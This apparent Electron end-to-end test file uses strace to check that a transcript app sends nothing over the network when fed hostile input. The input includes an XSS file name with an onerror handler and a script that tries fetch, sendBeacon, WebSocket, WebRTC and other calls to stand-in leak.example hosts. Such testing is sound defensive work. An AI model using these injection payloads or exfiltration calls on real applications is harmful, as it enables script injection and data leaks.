import { writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import type { App } from './app';
import { leaks, leakText, leakyBundle } from './leaks';
import { expect, test } from './test';
import { canTrace, traceOf } from './trace';

const why = 'needs strace, which traces what a program asks of Linux';

/** Every request that the window makes and that is not for the app's own page. */
function watchRequests(app: App) {
  return app.main.evaluateHandle(({ session }) => {
    const seen: string[] = [];
    const { webRequest } = session.defaultSession;
    const note = ({ url }: { readonly url: string }) => {
      if (!/^(app|blob:app):\/\/local\//.test(url)) seen.push(url);
    };
    webRequest.onErrorOccurred(note);
    webRequest.onCompleted(note);
    return seen;
  });
}

const singleSpaced = (text: string) => text.replace(/\s+/g, ' ');

/** That the open transcript shows every leak as it is printed; its paragraphs may be joined. */
async function expectVerbatim(app: App): Promise<void> {
  await app.transcript.text.waitFor();
  const shown = singleSpaced((await app.transcript.text.textContent()) ?? '');
  expect(leaks.filter((leak) => !shown.includes(singleSpaced(leak)))).toEqual([]);
}

async function expectNothingRan(app: App): Promise<void> {
  const ran = await app.page.evaluate(() => ({
    canary: Reflect.get(window, 'canary'),
    made: document.querySelectorAll(
      'iframe, img:not([src^="app:"]), video, object, embed, base, meta[http-equiv=refresh]',
    ).length,
  }));
  expect(ran).toEqual({ canary: undefined, made: 0 });
}

async function search(app: App): Promise<void> {
  await app.page.keyboard.press('Control+f');
  await app.page.getByRole('searchbox', { name: 'Find in transcript' }).fill('<img src=https://');
  await expect(app.page.getByText(/^1 of \d+$/)).toBeVisible();
  await app.page.keyboard.press('Escape');
}

test('what makes a page call out is only words, in every kind of file and in notes, as strace sees it', async ({
  start,
  folder,
}) => {
  test.skip(!canTrace, why);
  const trace = await traceOf(folder);
  const app = await start({ executable: trace.executable });
  const requests = await watchRequests(app);
  const file = async (name: string, content: string | Uint8Array) => {
    await writeFile(join(folder, name), content);
    return join(folder, name);
  };

  await app.openTranscript(await file('<img src=x onerror=canary=1>.txt', leakText));
  await app.addTranscript();
  await expectVerbatim(app);
  await search(app);
  await app.transcript.dragOver('createDataChannel');
  await app.page.keyboard.press('n');
  await app.page.keyboard.insertText(leaks.join(' '));
  await app.page.keyboard.press('Escape');
  await app.transcript.highlight('words</div> now', 'Evidence');
  await app.main.evaluate(
    // As Electron 33 takes it; later ones take the web's own kind of item.
    ({ clipboard }, html) => Reflect.apply(clipboard.write, clipboard, [{ html, text: html }]),
    leaks.join('\n'),
  );
  await app.transcript.dragOver('navigator.sendBeacon');
  await app.page.keyboard.press('n');
  await app.page.keyboard.press('Control+v');
  await app.page.keyboard.press('Escape');
  const notes = singleSpaced((await app.transcript.notes.textContent()) ?? '');
  expect(leaks.filter((leak) => notes.split(leak).length !== 3)).toEqual([]);
  await app.exportBriefing({ preset: 'Full annotated', path: join(folder, 'briefing.docx') });
  await expectNothingRan(app);

  await app.openTranscript(await file('leaks.md', leakText.replace('Leaks', '# Marked-up leaks')));
  await app.addTranscript();
  await expect(app.transcript.text).toContainText('<iframe src=https://i.leak.example/');
  await expectNothingRan(app);

  await app.menu('paste-transcript');
  await app.dialog('Paste a transcript').getByRole('textbox', { name: 'Text' }).fill(`Pasted ${leakText}`);
  await app.button('Continue').click();
  await app.addTranscript();
  await expectVerbatim(app);
  await expectNothingRan(app);

  await app.openTranscript(await file('leaks.despatch', await leakyBundle()));
  // Its themes say something else of themselves than those that are here.
  await app.button('Join').click();
  await expect(app.page).toHaveTitle(/^Bundled <img/);
  await expectVerbatim(app);
  await app.exportBriefing({ preset: 'Annotated transcript', path: join(folder, 'bundled.docx') });
  await app.button('Library').click();
  await app.page.getByRole('searchbox').fill('<img src');
  await expectNothingRan(app);
  expect(await requests.jsonValue()).toEqual([]);
  await app.quit();

  const { sent, lookups } = await trace.traffic();
  console.log(
    `${leaks.length} leaks through 4 importers and into notes: ${sent.length} packets, ${lookups.length} names`,
  );
  expect({ sent, lookups }).toEqual({ sent: [], lookups: [] });
});

/** What a script would do that had found a way into the page after all. */
const calls = `
  const put = (name, attributes, parent = document.body) =>
    parent.append(Object.assign(document.createElement(name), attributes));
  const tries = [
    ...['dns-prefetch', 'preconnect', 'prefetch', 'preload', 'modulepreload', 'stylesheet', 'icon', 'manifest']
      .map((rel) => () => put('link', { rel, href: 'https://' + rel + '.leak.example/x', as: 'script' }, document.head)),
    () => put('img', { src: 'https://img.leak.example/x.png' }),
    () => put('video', { src: 'https://video.leak.example/x.mp4', poster: 'https://poster.leak.example/x.png' }),
    () => put('iframe', { src: 'https://frame.leak.example/' }),
    () => put('object', { data: 'https://object.leak.example/' }),
    () => put('div', { style: 'background: url(https://style.leak.example/x.png)' }),
    () => put('script', { src: 'https://script.leak.example/x.js' }),
    () => new FontFace('x', 'url(https://font.leak.example/x.woff2)').load().catch(() => 0),
    () => fetch('https://fetch.leak.example/').catch(() => 0),
    () => fetch('http://192.0.2.1/').catch(() => 0),
    () => navigator.sendBeacon('https://beacon.leak.example/', 'words'),
    () => new WebSocket('wss://socket.leak.example/'),
    () => new EventSource('https://events.leak.example/'),
    () => new Worker('https://worker.leak.example/x.js'),
    () => navigator.serviceWorker.register('https://service.leak.example/x.js').catch(() => 0),
    () => new WebTransport('https://transport.leak.example/').ready.catch(() => 0),
    async () => {
      const peer = new RTCPeerConnection({ iceServers: [
        { urls: ['stun:192.0.2.1:3478', 'stun:stun.leak.example:3478'] },
        { urls: 'turn:192.0.2.1:3478?transport=tcp', username: 'a', credential: 'b' },
      ] });
      peer.createDataChannel('words');
      await peer.setLocalDescription(await peer.createOffer());
    },
  ];
  for (const attempt of tries) try { void attempt(); } catch {}
  new Promise((done) => setTimeout(() => done(tries.length), 4000));
`;

test('even a script in the page cannot send anything, as strace sees it', async ({ start, folder }) => {
  test.skip(!canTrace, why);
  const trace = await traceOf(folder);
  const app = await start({ executable: trace.executable });
  app.expectTrouble(
    /Content Security Policy|Refused to|ERR_|Failed to|Trusted|violat|WebSocket|preload|trace-warnings/i,
  );
  const tried = await app.main.evaluate(
    ({ BrowserWindow }, script) =>
      BrowserWindow.getAllWindows()[0]?.webContents.executeJavaScript(script, true),
    calls,
  );
  await app.quit();
  const { sent, routesAsked, lookups } = await trace.traffic();
  console.log(
    `${tried} ways to call out: ${sent.length} packets, ${lookups.length} names, ${routesAsked} routes asked for`,
  );
  expect({ sent, lookups }).toEqual({ sent: [], lookups: [] });
});
